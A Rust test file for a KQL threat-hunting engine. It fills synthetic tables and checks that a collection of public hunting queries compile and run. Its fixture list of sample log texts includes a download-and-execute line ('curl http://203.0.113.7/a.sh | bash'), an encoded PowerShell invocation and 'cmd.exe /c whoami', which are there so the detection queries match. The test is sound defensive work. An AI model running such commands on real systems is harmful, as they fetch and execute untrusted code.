//! Public hunting queries over a lake that has rows: what compiles against our tables also runs.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use arrow::array::{
    ArrayRef, BooleanArray, Float64Array, Int32Array, Int64Array, RecordBatch, StringArray,
    TimestampMicrosecondArray,
};
use arrow::datatypes::{DataType, Schema, SchemaRef, TimeUnit};
use async_trait::async_trait;
use datafusion::catalog::TableProvider;
use datafusion::datasource::MemTable;
use futures::StreamExt;
use palisade_kql::SchemaCatalogue;
use palisade_kql_exec::{
    ExecError, ExternalError, ExternalRequest, ExternalSource, LocalExecutor, QueryContext, QueryExecutor,
    TableSource,
};
use palisade_lake::{Pin, PinnedCatalogue, RowLoader, schemas};
use palisade_schema::{ColumnType, TableKind, TableSpec};
use palisade_types::TenantId;
use serde_json::Value as Json;

/// Rows of each table.
const ROWS: usize = 400;
/// 2026-11-01, in microseconds.
const NOW: i64 = 1_793_491_200_000_000;
const HOUR: i64 = 3_600_000_000;

/// Tables of the lake as it is pinned, and views with rows of the same make.
struct Source {
    lake: PinnedCatalogue,
    views: BTreeMap<String, Arc<MemTable>>,
}

#[async_trait]
impl TableSource for Source {
    async fn table(&self, name: &str) -> Result<Arc<dyn TableProvider>, ExecError> {
        if let Some(view) = self.views.get(name) {
            return Ok(Arc::clone(view) as Arc<dyn TableProvider>);
        }
        let table = self.lake.table(name).await.map_err(|e| ExecError::Data(e.to_string()))?;
        Ok(table)
    }
}

/// Queries that do not run to their end here, and why that is right.
const KNOWN: &[(&str, &str)] = &[
    ("41287cdbbea66d9f", "names a property that no bag has here"),
    ("1eecb6cad7e7eb6a", "names a property that no bag has here"),
    ("526ce43ee3302089", "names a property that no bag has here"),
    ("010fc23b0ab333f1", "names a property that no bag has here"),
    ("ab9ff76510fdfd49", "names a property that no bag has here"),
];

/// Every file from outside: a line that is a row of any width, whatever the format.
struct Outside;

#[async_trait]
impl ExternalSource for Outside {
    async fn fetch(&self, request: ExternalRequest<'_>) -> Result<Vec<u8>, ExternalError> {
        let format =
            request.properties.iter().find(|(name, _)| name == "format").map(|(_, value)| value.as_str());
        Ok(match format {
            Some("json" | "multijson") => br#"{"a":"203.0.113.9","b":[1]}"#.to_vec(),
            _ => b"203.0.113.9,example.org,x\n10.0.0.4,example.net,y\n".to_vec(),
        })
    }
}

/// What the queries compare each column with, so that some rows pass their filters.
fn compared(queries: &[Json]) -> BTreeMap<String, Vec<String>> {
    const WORDS: [&str; 9] =
        ["dynamic", "has_any", "has_all", "has", "contains", "startswith", "endswith", "in", "and"];
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for query in queries {
        let text = query["query"].as_str().unwrap();
        let mut column = String::new();
        for line in text.lines().filter(|l| !l.trim_start().starts_with("//")) {
            // Every second part is between quotes.
            let parts: Vec<&str> = line.split('"').collect();
            for pair in parts.chunks_exact(2) {
                let mut before = pair[0];
                loop {
                    let word = before.trim_end_matches(|c: char| " (=~@[".contains(c));
                    let shorter = WORDS.iter().find_map(|w| word.strip_suffix(w)).unwrap_or(word);
                    if shorter.len() == before.len() {
                        break;
                    }
                    before = shorter;
                }
                let name =
                    before.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or("");
                // After a comma the list goes on.
                if !name.is_empty() {
                    column = name.to_owned();
                }
                let pool = found.entry(column.clone()).or_default();
                if !pair[1].is_empty() && pool.len() < 200 {
                    pool.push(pair[1].replace("\\\\", "\\"));
                }
            }
        }
    }
    found
}

/// The collection, or why it is not looked at.
fn queries() -> Option<Vec<Json>> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    let file = std::env::var_os("PALISADE_DATA")
        .map_or_else(|| root.join("../shared/data"), PathBuf::from)
        .join("kql/hunting-queries.jsonl");
    let Ok(text) = std::fs::read_to_string(file) else {
        assert!(std::env::var("CI").as_deref() != Ok("true"), "PALISADE_DATA is absent in CI");
        eprintln!("skipped: no test data (set PALISADE_DATA)");
        return None;
    };
    Some(text.lines().map(|line| serde_json::from_str(line).unwrap()).collect())
}

/// Texts that hunters look for, so that some rows pass their filters.
const TEXTS: [&str; 12] = [
    "powershell.exe -enc SQBFAFgA -noni",
    "cmd.exe /c whoami",
    "rundll32.exe",
    "curl http://203.0.113.7/a.sh | bash",
    "203.0.113.9",
    "10.0.0.4",
    "LogonSuccess",
    "ProcessCreated",
    "admin@example.org",
    "https://host.example.org/path?q=1",
    "C:\\Users\\eve\\AppData\\Local\\Temp\\x.dll",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
];

const BAGS: [&str; 4] = [
    r#"{"Name":"a","Count":3,"Tags":["x","y"],"Inner":{"id":7}}"#,
    r#"[{"Name":"a","Value":"1"},{"Name":"b","Value":"2"}]"#,
    r#"{"ParsedFields":{"LogonType":"Interactive"},"IsLocalLogon":true}"#,
    r#""plain""#,
];

/// Row after row walks through texts, hours and numbers at paces that differ from column to column.
fn column(name: &str, kind: ColumnType, ty: &DataType, at: usize, wanted: Option<&Vec<String>>) -> ArrayRef {
    let pace = at * 7 + 3;
    let text = |row: usize| match wanted {
        Some(pool) if !pool.is_empty() && !row.is_multiple_of(4) => pool[row * pace % pool.len()].as_str(),
        _ => TEXTS[row * pace % TEXTS.len()],
    };
    let number = |row: usize| i64::try_from(row * pace % 5000).unwrap();
    let missing = |row: usize| (row + at).is_multiple_of(11);
    let long = |row: usize| (!missing(row)).then(|| number(row));
    let time = |row: usize| NOW - i64::try_from(row).unwrap() * HOUR / 4 - number(row);
    match (kind, ty) {
        (ColumnType::Dynamic, _) => {
            Arc::new((0..ROWS).map(|row| (!missing(row)).then(|| BAGS[row % 4])).collect::<StringArray>())
        }
        (ColumnType::Guid, _) => Arc::new(
            (0..ROWS)
                .map(|row| Some(format!("00000000-0000-4000-8000-{:012}", row % 40)))
                .collect::<StringArray>(),
        ),
        (_, DataType::Utf8 | DataType::Utf8View) if name == "DeviceId" => Arc::new(
            (0..ROWS)
                .map(|row| Some(format!("00000000-0000-4000-8000-{:012}", row % 9)))
                .collect::<StringArray>(),
        ),
        (_, DataType::Utf8 | DataType::Utf8View) => Arc::new(
            (0..ROWS).map(|row| Some(if missing(row) { "" } else { text(row) })).collect::<StringArray>(),
        ),
        (_, DataType::Timestamp(TimeUnit::Microsecond, _)) => Arc::new(
            (0..ROWS).map(|row| Some(time(row))).collect::<TimestampMicrosecondArray>().with_timezone("UTC"),
        ),
        (_, DataType::Int64) => Arc::new((0..ROWS).map(long).collect::<Int64Array>()),
        (_, DataType::Int32) => {
            Arc::new((0..ROWS).map(|row| long(row).map(|n| n as i32)).collect::<Int32Array>())
        }
        (_, DataType::Float64) => {
            Arc::new((0..ROWS).map(|row| long(row).map(|n| n as f64 / 4.0)).collect::<Float64Array>())
        }
        (_, DataType::Boolean) => Arc::new(
            (0..ROWS).map(|row| (!missing(row)).then_some(row.is_multiple_of(2))).collect::<BooleanArray>(),
        ),
        (_, other) => panic!("{name}: {other}"),
    }
}

fn rows(spec: &TableSpec, schema: &SchemaRef, wanted: &BTreeMap<String, Vec<String>>) -> RecordBatch {
    let kinds: BTreeMap<&str, ColumnType> = spec.columns.iter().map(|c| (c.name.as_str(), c.kind)).collect();
    let columns: Vec<ArrayRef> = schema
        .fields()
        .iter()
        .enumerate()
        .map(|(at, f)| {
            let kind = kinds.get(f.name().as_str()).copied().unwrap_or(ColumnType::Datetime);
            let made = column(f.name(), kind, f.data_type(), at, wanted.get(f.name()));
            arrow::compute::cast(&made, f.data_type()).unwrap()
        })
        .collect();
    RecordBatch::try_new(Arc::clone(schema), columns).unwrap()
}

/// The columns of a view as the server gives them.
fn of_view(spec: &TableSpec) -> SchemaRef {
    let mut schema = palisade_kql::Schema::default();
    for column in &spec.columns {
        let ty = palisade_kql::Type::from_name(&column.kind.to_string()).unwrap();
        schema.push(column.name.as_str(), ty);
    }
    palisade_kql_exec::arrow_schema(&schema)
}

/// A lake with rows in each table that it keeps, and the views.
async fn source(folder: &Path, tenant: TenantId, wanted: &BTreeMap<String, Vec<String>>) -> Source {
    let lake = folder.join("lake");
    let mut views = BTreeMap::new();
    for spec in palisade_schema::tables() {
        if spec.kind == TableKind::View {
            let schema: SchemaRef = of_view(spec);
            let table =
                MemTable::try_new(Arc::clone(&schema), vec![vec![rows(spec, &schema, wanted)]]).unwrap();
            views.insert(spec.name.clone(), Arc::new(table));
            continue;
        }
        let mut loader = RowLoader::open(&lake, tenant, &spec.name).await.unwrap();
        let stored: Arc<Schema> = Arc::clone(&schemas(&spec.name).unwrap().stored);
        loader.add(rows(spec, &stored, wanted)).unwrap();
        let loaded = loader.commit().await.unwrap();
        assert_eq!(loaded.rows, ROWS as u64, "{}", spec.name);
    }
    let pin = Pin::load(&folder.join("no-hot-rows"), &lake, tenant).unwrap();
    Source { lake: PinnedCatalogue::new(pin), views }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn public_queries_that_compile_also_run() {
    let Some(queries) = queries() else { return };
    let folder = tempfile::tempdir().unwrap();
    let tenant: TenantId = "0194d3a0-0000-7000-8000-000000000001".parse().unwrap();
    let source = source(folder.path(), tenant, &compared(&queries)).await;
    let executor = LocalExecutor::new(Arc::new(source)).with_external(Arc::new(Outside));
    let (mut ran, mut with_rows, mut of_others, mut broken) = (0, 0, 0, Vec::new());
    for item in &queries {
        let query = item["query"].as_str().unwrap();
        let Ok(program) = palisade_kql::compile(query, &SchemaCatalogue, NOW) else {
            of_others += 1;
            continue;
        };
        let stored = !program.tables().is_empty();
        let context = QueryContext { deadline: Duration::from_secs(60), ..QueryContext::default() };
        match outcome(&executor, program, context).await {
            Ok(found) => {
                ran += 1;
                with_rows += usize::from(found > 0 && stored);
            }
            Err(_) if KNOWN.iter().any(|(id, _)| item["id"] == *id) => {}
            Err(error) => broken.push(format!("{}: {}: {error}", item["id"], error.code())),
        }
    }
    println!(
        "{ran} of {} queries that compile against our tables ran, {with_rows} gave rows of stored tables; {of_others} \
         ask for tables or columns that are not ours",
        ran + broken.len()
    );
    assert!(broken.is_empty(), "{broken:#?}");
    // Without rows little of a query is exercised.
    assert!(ran > 1100 && with_rows > 60, "{ran} ran, {with_rows} gave rows");
}

/// How many rows a query gives.
async fn outcome(
    executor: &LocalExecutor,
    program: palisade_kql::Program,
    context: QueryContext,
) -> Result<usize, ExecError> {
    let mut stream = executor.execute(program, context).await?;
    let mut found = 0;
    while let Some(batch) = stream.next().await {
        found += batch?.num_rows();
    }
    Ok(found)
}
